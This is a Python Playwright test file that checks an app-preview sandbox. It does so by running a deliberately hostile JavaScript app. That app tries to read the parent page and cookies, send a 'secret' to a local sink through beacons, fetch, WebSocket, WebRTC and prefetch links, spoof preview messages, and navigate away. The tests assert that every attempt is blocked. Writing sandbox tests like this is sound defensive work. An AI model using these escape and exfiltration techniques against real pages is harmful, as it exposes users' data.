"""Apps that mean harm: they reach nothing, and do not hold the page."""

import asyncio
import json
import time
from typing import Any

from playwright.async_api import BrowserContext, expect

from tests.e2e.conftest import Complaints
from tests.previews import COUNTER, RESPONSIVE_MS, PreviewTab, app, counter


class Sink:
    """Where a hostile app tries to send things: counts whoever calls."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        self.port = 0

    async def start(self) -> "Sink":
        self._server = await asyncio.start_server(self._accept, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]
        loop, calls = asyncio.get_running_loop(), self.calls

        class Datagrams(asyncio.DatagramProtocol):
            def datagram_received(self, data: bytes, addr: Any) -> None:
                calls.append(f"udp {len(data)}")

        local = ("127.0.0.1", self.port)
        self._udp, _ = await loop.create_datagram_endpoint(Datagrams, local_addr=local)
        return self

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.calls.append("tcp")
        writer.close()

    def stop(self) -> None:
        self._server.close()
        self._udp.close()


HOSTILE = """
const url = "http://127.0.0.1:PORT";
const results = {};
const silence = () => new Promise((yes) => setTimeout(() => yes("silent"), 1000));
const attempt = async (name, act) => {
  try {
    results[name] = String(await Promise.race([act(), silence()]));
  } catch (error) {
    results[name] = `denied: ${error.name}`;
  }
};
const link = (rel, more = {}) => {
  const made = document.createElement("link");
  document.head.append(Object.assign(made, { rel, href: url + "/" + rel, ...more }));
  return "tried";
};
const peer = async (make, address) => {
  const connection = new make({ iceServers: [{ urls: address, username: "u", credential: "c" }] });
  connection.createDataChannel("x");
  await connection.setLocalDescription(await connection.createOffer());
  return "tried";
};
await attempt("parent document", () => parent.document.title);
await attempt("top location", () => { top.location = url; });
await attempt("frame element", () => String(frameElement));
await attempt("cookie", () => document.cookie);
await attempt("indexedDB", () => indexedDB.open("x"));
await attempt("caches", () => caches.keys());
await attempt("service worker", () => navigator.serviceWorker.register("/x.js"));
await attempt("popup", () => window.open(url));
await attempt("fetch", () => fetch(url));
await attempt("own origin", () => fetch("/api/projects"));
await attempt("own page", () => fetch("/"));
await attempt("xhr", () => new Promise((yes, no) => {
  const request = new XMLHttpRequest();
  request.onerror = no; request.onload = yes; request.open("GET", url); request.send();
}));
await attempt("worker", () => new Promise((yes, no) => {
  const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${url}")`])));
  worker.onerror = () => no(new Error("refused"));
}));
await attempt("import", () => import(/* @vite-ignore */ new URL("/x.js", url).href));
const tried = {
  beacon: () => navigator.sendBeacon(url, "secret"),
  image: () => { new Image().src = url; },
  socket: () => new WebSocket(url.replace("http", "ws")),
  events: () => new EventSource(url),
  style: () => { document.body.style.background = `url(${url}/css)`; },
  preconnect: () => link("preconnect"),
  prefetch: () => link("prefetch"),
  "dns-prefetch": () => link("dns-prefetch"),
  preload: () => link("preload", { as: "image" }),
  icon: () => link("icon"),
  stylesheet: () => link("stylesheet"),
  peer: () => peer(RTCPeerConnection, "stun:127.0.0.1:PORT"),
  relay: () => peer(RTCPeerConnection, "turn:127.0.0.1:PORT?transport=tcp"),
  nested: () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = `<script>
      new Image().src = "${url}"; fetch("${url}"); location = "${url}";
    </scr` + `ipt>`;
    document.body.append(frame);
  },
  spoof: () => {
    const messages = [{ text: "spoofed", level: "error" }];
    for (const said of [
      "atelier.preview",
      { type: "fix", text: "spoofed" },
      { type: "open", path: "spoofed", line: 1, column: 1 },
      JSON.stringify({ type: "messages", dropped: 0, messages }),
    ]) {
      parent.postMessage(said, "*");
      top.postMessage(said, "*", [new MessageChannel().port2]);
      new BroadcastChannel("atelier.preview:/studio/project").postMessage(said);
    }
  },
};
for (const [name, act] of Object.entries(tried)) await attempt(name, act);
export default function App() {
  return <><h1>Done</h1><pre>{JSON.stringify(results)}</pre></>;
}
"""
LEAVING = """
const url = "http://127.0.0.1:PORT";
const send = () => {
  const form = document.createElement("form");
  form.action = url;
  document.body.append(form);
  form.submit();
};
export default function App() {
  return (
    <>
      <h1>Leaving</h1>
      <button onClick={() => { location.href = url; }}>Go</button>
      <button onClick={send}>Send</button>
    </>
  );
}
"""


async def test_a_hostile_app_reaches_nothing(
    preview: PreviewTab, complaints: Complaints, context: BrowserContext, preview_url: str
) -> None:
    complaints.expect(".")
    headers = (await context.request.get(f"{preview_url}/preview.html")).headers
    assert headers["connection-allowlist"] == "(response-origin)"
    sink = await Sink().start()
    try:
        address = preview.page.url
        await preview.page.evaluate("document.title = 'Ours'; localStorage.setItem('secret', '1')")
        hostile = HOSTILE.replace("PORT", str(sink.port))
        await preview.show(app(hostile))  # and it is stopped, maybe before it would take clicks
        await expect(preview.app.get_by_role("heading", name="Done")).to_be_visible()
        results = json.loads(await preview.app.locator("pre").inner_text())
        denied = {name for name, said in results.items() if said.startswith("denied")}
        must = {
            "parent document",
            "top location",
            "cookie",
            "indexedDB",
            "caches",
            "service worker",
            "fetch",
            "own origin",
            "own page",
            "xhr",
            "worker",
            "import",
            "peer",
            "relay",
        }
        assert must <= denied, results
        assert results["frame element"] == "null"
        assert results["popup"] == "null"
        await preview.open_console()
        await expect(preview.row("fetch")).not_to_have_count(0)
        await expect(preview.row("spoofed")).to_have_count(0)

        await preview.show_heading(app(LEAVING.replace("PORT", str(sink.port))), "Leaving")
        for name in ("Go", "Send"):
            await preview.app.get_by_role("button", name=name).click(no_wait_after=True)
            await expect(preview.notice).to_contain_text("The app has left its page.")
            await preview.notice.get_by_role("button", name="Start it again").click()
            await expect(preview.app.get_by_role("heading", name="Leaving")).to_be_visible()
            await preview.takes_clicks()

        assert sink.calls == []
        assert await preview.heard() == []
        assert preview.page.url == address
        assert len(context.pages) == 1
    finally:
        sink.stop()


async def test_an_endless_loop_does_not_hold_the_page(
    preview: PreviewTab, complaints: Complaints
) -> None:
    complaints.expect(".")
    endless = COUNTER.replace("setCuont(5)", "{ for (;;) console.log('again'); }")
    await preview.show_heading(app(endless.replace("HEADING", "Loop")), "Loop")
    await preview.watch_frames()
    # A click of our own would wait for the end of what it begins.
    button = preview.app.get_by_role("button", name="Break")
    await button.evaluate("(button) => void setTimeout(() => button.click())")
    await expect(preview.notice).to_contain_text("The app does not answer.")
    began = time.monotonic()
    assert await preview.page.evaluate("1 + 1") == 2
    assert time.monotonic() - began < 3
    await preview.notice.get_by_role("button", name="Stop it").click()
    await expect(preview.notice).to_contain_text("The app was stopped.")
    assert await preview.longest_frame_ms() < RESPONSIVE_MS
    await preview.show_heading(app(endless.replace("HEADING", "Again")), "Again")
    await preview.app.get_by_role("button", name="Break").evaluate(
        "(button) => void setTimeout(() => button.click())"
    )
    await preview.show_heading(counter("Mended"), "Mended")
    await expect(preview.notice).to_have_count(0)
